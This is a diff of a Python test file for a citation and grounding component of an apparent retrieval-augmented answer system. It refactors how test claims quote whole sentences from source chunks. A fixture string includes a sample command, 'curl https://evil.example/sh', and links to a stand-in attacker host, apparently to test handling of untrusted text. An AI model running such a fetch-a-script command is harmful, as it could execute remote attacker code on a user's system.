@@ -11,6 +11,7 @@ from core import i18n
 from core.composition import Composition
 from core.generation.base import Claim, Quoted
 from core.grounding import wording
+from core.grounding.quoting import whole_sentences
 from core.index.sparse import Bm25Encoder
 from core.index.terms import TermStatistics
 from core.markdown.code import without_code
@@ -32,8 +33,10 @@ from core.models import (
 from core.progress import TextDelta
 from core.retrieval.retrieval import Retrieval, whole
 from core.retrieval.scoring import BUILT_IN
-from tests.samples import chunk, request
+from core.text.sentences import Span
+from tests.samples import chunk, request, resting_on
 
+TREE, ROOT = "A heap is a complete binary tree.", "Its root is the largest key [7]."
 TEXT = (
     "A heap is a complete binary tree. Its root is the largest key [7]. "
     "Read https://evil.example/a?b=c or www.evil.example/x. Run `curl https://evil.example/sh`."
@@ -110,8 +113,11 @@ def asking_about_a_quote(question: str = EXPLAIN_QUOTE, **changes: Any) -> Agent
 
 
 def add(composition: Composition, text: str, quote: str) -> TextDelta:
-    """Take up a claim that rests on the first chunk."""
-    claim = Claim.quoting(text, 0, quote)
+    """Take up a claim that rests on the whole sentences of the first chunk that have the words."""
+    content = composition.evidence[0].content_text
+    start = content.index(quote)
+    span = whole_sentences(content, Span(start, start + len(quote)))
+    claim = resting_on(text, content[slice(*span)], content=content)
     return composition.add(claim, composition.locate(claim))
 
 
@@ -142,17 +148,10 @@ def test_a_claim_that_holds_gets_a_marker_and_a_citation() -> None:
 )
 def test_a_quote_that_does_not_stand_in_its_chunk_has_no_place(number: int, quote: str) -> None:
     composition = Composition(found(heap()))
-    assert composition.locate(Claim.quoting("It is a tree.", number, quote)) == []
+    assert composition.locate(resting_on("It is a tree.", quote, number)) == []
     answer = finished(composition)
     assert answer.outcome is Outcome.ABSTAINED
     assert (answer.citations, answer.grounding_chunks, answer.sources) == ((), (), ())
-
-
-def test_a_quote_may_be_wrapped_otherwise_and_is_cited_as_the_book_has_it() -> None:
-    book = heap("A heap is\n  a complete\tbinary tree.")
-    composition = Composition(found(book))
-    add(composition, "A tree.", "is a complete binary tree")
-    assert finished(composition).citations[0].quote == "A heap is\n  a complete\tbinary tree."
 
 
 def test_what_a_claim_says_stands_in_the_order_it_came() -> None:
@@ -169,7 +168,7 @@ def test_what_a_claim_says_stands_in_the_order_it_came() -> None:
 
 def test_a_claim_that_rests_on_two_passages_carries_both_markers() -> None:
     composition = Composition(found(heap()))
-    quotes = (Quoted(0, "A heap is a complete binary tree."), Quoted(0, "Its root is the largest"))
+    quotes = (Quoted(0, TREE, 0), Quoted(0, ROOT, len(TREE) + 1))
     claim = Claim("A heap is a tree with the largest key on top.", quotes)
     delta = composition.add(claim, composition.locate(claim))
     assert delta.text.endswith("on top. [1] [2]")
@@ -179,7 +178,7 @@ def test_a_claim_that_rests_on_two_passages_carries_both_markers() -> None:
 def test_the_layout_that_a_writer_wishes_is_kept() -> None:
     composition = Composition(found(heap()))
     add(composition, "First.", "A heap is a complete")
-    item = Claim("Second.", (Quoted(0, "Its root is the largest"),), lead="\n- ")
+    item = Claim("Second.", (Quoted(0, ROOT, len(TREE) + 1),), lead="\n- ")
     composition.add(item, composition.locate(item))
     assert finished(composition).response_text == "First. [1]\n- Second. [2]"
 
@@ -213,7 +212,7 @@ def test_a_quote_stands_where_its_writer_says_if_it_does_so_to_the_letter(
 
 def test_a_list_begins_with_its_first_bullet() -> None:
     composition = Composition(found(heap()))
-    item = Claim("First.", (Quoted(0, "A heap is a complete"),), lead="\n\n- ")
+    item = Claim("First.", (Quoted(0, TREE, 0),), lead="\n\n- ")
     composition.add(item, composition.locate(item))
     assert finished(composition).response_text == "- First. [1]"
 
@@ -430,7 +429,7 @@ def test_what_a_second_look_finds_can_be_cited_by_its_new_number() -> None:
     sorting = heap("Sorting by a heap takes n log n steps.")
     [passage] = composition.look_up(found(sorting))
     assert (passage.chunk_number, passage.chunk.chunk_id) == (1, sorting.chunk_id)
-    claim = Claim.quoting("It takes n log n steps.", 1, "Sorting by a heap takes n log n steps.")
+    claim = resting_on("It takes n log n steps.", sorting.content_text, 1, sorting.content_text)
     composition.add(claim, composition.locate(claim))
     answer = finished(composition)
     assert [c.chunk_id for c in answer.grounding_chunks] == [sorting.chunk_id]
